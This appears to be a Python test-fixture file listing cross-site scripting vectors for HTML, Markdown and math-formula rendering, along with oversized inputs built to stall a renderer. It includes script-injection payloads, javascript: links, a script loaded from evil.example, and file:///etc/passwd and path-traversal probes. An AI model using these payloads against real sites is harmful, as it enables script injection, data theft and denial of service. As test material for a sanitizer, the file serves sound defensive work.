"""Texts that try to get a script into a page, or to keep a renderer busy."""

from __future__ import annotations

CODE = "alert(1)"

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    "<body onload=alert(1)>",
    '<style>@import "javascript:alert(1)";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<link rel=stylesheet href="data:text/css,*{}">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<input autofocus onfocus=alert(1)>",
    "<p id=x tabindex=1 onfocus=alert(1)>",
    "</code></pre><script>alert(1)</script>",
    "\0<scr\0ipt>alert(1)</script>",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](< javascript:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](?logout=1)",
    "[x](#top)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "[x](https://a.example 'x' onclick=alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](media:' + "ab" * 32 + ")",
    "![<img src=x onerror=alert(1)>](media:" + "ab" * 32 + ")",
    "![x](media:" + "ab" * 32 + '" onerror="alert(1))',
    "![x](media:../../etc/passwd)",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "~~<script>~~alert(1)~~</script>~~",
]

FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(javascript:alert(1))}{x}$",
    r"$\class{x onload=alert(1)}{x}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\text{&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;}$",
    r"$\mbox{<img src=x onerror=alert(1)>}$",
    r"$\operatorname{script}<script>alert(1)</script>$",
    r"$\color{red' onload='alert(1)}{x}$",
    r"$\textcolor{red}{x}$",
    r"$\fcolorbox{a}{b}{<script>}$",
    r"$\hspace{1em\" onload=\"alert(1)}$",
    r"$\tag{<script>alert(1)</script>}x$",
    r"$\begin{array}{c}<script>\end{array}$",
    r"$\left<script\right>$",
    r"$\mathop{<script>}$",
    r"$\verb|<script>|$",
    r"$\def\a{<script>}\a$",
    r"$$\text{<iframe srcdoc='x'>}$$",
]

VECTORS = [*HTML, *MARKDOWN, *FORMULAS]


def _filled(piece: str, length: int = 20_000) -> str:
    return (piece * (length // len(piece) + 1))[:length]


BUSY = {
    **{
        repr(piece): _filled(piece)
        for piece in ("[", "*", "> ", "`", "![", "<", "$", "$a ", "&#", "\\", "~", "|", "- ")
    },
    **{
        repr(piece): _filled(piece)
        for piece in ("*a_ ", "**a *b ", "[a](", "[a\n", "[a]: b\n", "$$a\n", "```\n", "a|b\n-|-\n")
    },
    "brackets in brackets": "[" * 5000 + "a" + "](x)" * 3000,
    "strong in strong": "**" * 4900 + "a" + "**" * 4900,
    "quotes in quotes": "\n".join(">" * depth + "a" for depth in range(190)),
    "lists in lists": "\n".join("  " * depth + "- a" for depth in range(130)),
    "fences in fences": "".join("`" * length + "\n" for length in range(3, 190)),
    "a wide table": "|a" * 1000 + "\n" + "|-" * 1000 + "\n" + "a\n" * 7900,
    "many formulas": " ".join(f"$x_{{{n}}}$" for n in range(1900)),
    "deep formulas": " ".join("$" + r"\sqrt{" * 140 + str(n) + "}" * 140 + "$" for n in range(19)),
    "formulas that define": r"$\def\a{xx}"
    + "".join(rf"\def\{b}{{\{a}\{a}}}" for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + r"\j$",
    "code of spaces": "```c\n" + " " * 19_000 + "\n```",
    "code of short lines": "```java\n" + "a\n" * 1900 + "```",
}
"""Texts of up to 20,000 characters, each the worst of its kind that was found."""
